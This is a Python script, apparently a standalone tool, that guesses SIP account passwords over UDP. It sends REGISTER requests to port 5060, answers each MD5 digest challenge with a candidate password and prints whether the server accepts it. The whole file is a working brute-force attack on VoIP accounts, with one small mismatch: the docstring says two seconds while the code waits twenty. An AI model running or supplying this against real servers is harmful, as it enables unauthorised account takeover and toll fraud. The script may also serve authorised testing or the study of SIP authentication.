# SPDX-License-Identifier: MIT
"""Guesses passwords by SIP over UDP, and prints the answer to each.

Usage: sip_guesser.py SERVER DOMAIN USER PASSWORD...
An answer is the status code, such as 401 or 200; "-" if none came within two seconds.
"""

import hashlib
import re
import socket
import sys

server, domain, user, *passwords = sys.argv[1:]
client = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
client.settimeout(20)
client.connect((server, 5060))
own, port = client.getsockname()


def md5(text):
    return hashlib.md5(text.encode()).hexdigest()


def register(sequence, authorization=""):
    """Returns the answer to a REGISTER; empty if there is none."""
    request = f"""REGISTER sip:{domain} SIP/2.0
Via: SIP/2.0/UDP {own}:{port};branch=z9hG4bK{port}{sequence};rport
From: <sip:{user}@{domain}>;tag={port}
To: <sip:{user}@{domain}>
Call-ID: {port}@{own}
CSeq: {sequence} REGISTER
Contact: <sip:{user}@{own}:{port}>
Max-Forwards: 70
{authorization}Content-Length: 0

"""
    client.send(request.replace("\n", "\r\n").encode())
    try:
        return client.recv(65536).decode()
    except (socket.timeout, ConnectionError):
        return ""


for number, password in enumerate(passwords):
    challenge = register(2 * number + 1)
    parameters = dict(re.findall(r'(realm|nonce)="([^"]*)"', challenge))
    answer = ""
    if parameters:
        realm, nonce = parameters["realm"], parameters["nonce"]
        uri = f"sip:{domain}"
        response = md5(f"{md5(f'{user}:{realm}:{password}')}:{nonce}:{md5(f'REGISTER:{uri}')}")
        answer = register(
            2 * number + 2,
            f'Authorization: Digest username="{user}", realm="{realm}", nonce="{nonce}", '
            f'uri="{uri}", response="{response}", algorithm=MD5\n',
        )
    print(answer.split(" ", 2)[1] if answer else "-", flush=True)
